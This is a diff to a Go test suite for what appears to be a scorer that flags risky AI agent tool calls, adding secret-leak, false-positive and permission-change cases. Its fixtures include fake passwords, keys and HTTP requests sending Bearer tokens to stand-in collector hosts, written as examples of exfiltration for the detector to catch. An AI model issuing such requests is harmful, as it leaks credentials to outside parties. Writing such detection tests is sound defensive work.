@@ -248,7 +248,8 @@ func TestSecrets(t *testing.T) {
 		{"openssh-private-key", "send_email", map[string]any{"to": []any{"ops@globex.io"}, "body": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----"}, FactorSecret, 50},
 		{"password-assignment", "write_file", map[string]any{"path": "app.ini", "content": "[db]\npassword = Tr0ub4dor&3xQ9\n"}, FactorSecret, 40},
 		{"yaml-secret", "write_file", map[string]any{"path": "ci.yml", "content": "env:\n  CLIENT_SECRET: 9sK2mQ7vXp4LrT8wZb3N\n"}, FactorSecret, 50},
-		{"password-in-url", "create_ticket", body("connect with postgres://app:Zx9vQ2mLp@db.globex.corp/app"), FactorSecret, 40},
+		{"password-in-url", "create_ticket", body("connect with postgres://app:Zx9vQ2mLp@db.globex.corp/app"), FactorSecret, 45},
+		{"password-is-prose", "send_email", map[string]any{"to": []any{"it@globex.io"}, "body": "my vpn password is Kq7!mZ2pRw, can you reset it?"}, FactorSecret, 40},
 		{"bearer-to-outsider", "http_request", map[string]any{"method": "GET", "url": "https://collector.example.net/x", "headers": map[string]any{"Authorization": "Bearer 8fK2mQ9xLp4RtZ7vWb3NcY6s"}}, FactorSecret, 25},
 		{"vendor-key-to-other-host", "http_request", map[string]any{"method": "GET", "url": "https://billing-check.example.net/x", "headers": map[string]any{"Authorization": "Bearer sk_live_" + "51Hq8LmZ2xWv4TnP3rYbQ0"}}, FactorSecret, 50},
 	})
@@ -262,6 +263,7 @@ func TestSecrets(t *testing.T) {
 		{"git-sha-and-uuid", "create_ticket", body("fixed in 3f2a9c1e8b7d6a5f4e3d2c1b0a9f8e7d6c5b4a39, run 1b4e28ba-2fa1-11d2-883f-0016d3cca427"), FactorSecret},
 		{"vault-path", "create_ticket", body("stored under secret/data/ci/aws"), FactorSecret},
 		{"password-policy-prose", "create_ticket", body("The password policy: passwords need 12 characters."), FactorSecret},
+		{"password-is-incorrect", "create_ticket", body("Login fails: the password is incorrect after the reset."), FactorSecret},
 		{"org-bearer-to-org", "http_request", map[string]any{"method": "GET", "url": "https://api.globex.io/me", "headers": map[string]any{"Authorization": "Bearer 8fK2mQ9xLp4RtZ7vWb3NcY6s"}}, FactorExfiltration},
 	})
 }
@@ -368,6 +370,7 @@ func TestPrivilege(t *testing.T) {
 		{"read-only", "modify_permissions", map[string]any{"user": "kim", "role": "read-only"}, FactorPrivilege},
 		{"disable", "modify_permissions", map[string]any{"user": "leaver", "role": "disabled"}, FactorPrivilege},
 		{"editor", "modify_permissions", map[string]any{"user": "kim@globex.io", "role": "editor"}, FactorPrivilege},
+		{"revoke-admin", "modify_permissions", map[string]any{"user": "leaver", "role": "admin", "action": "revoke"}, FactorPrivilege},
 	})
 }
 
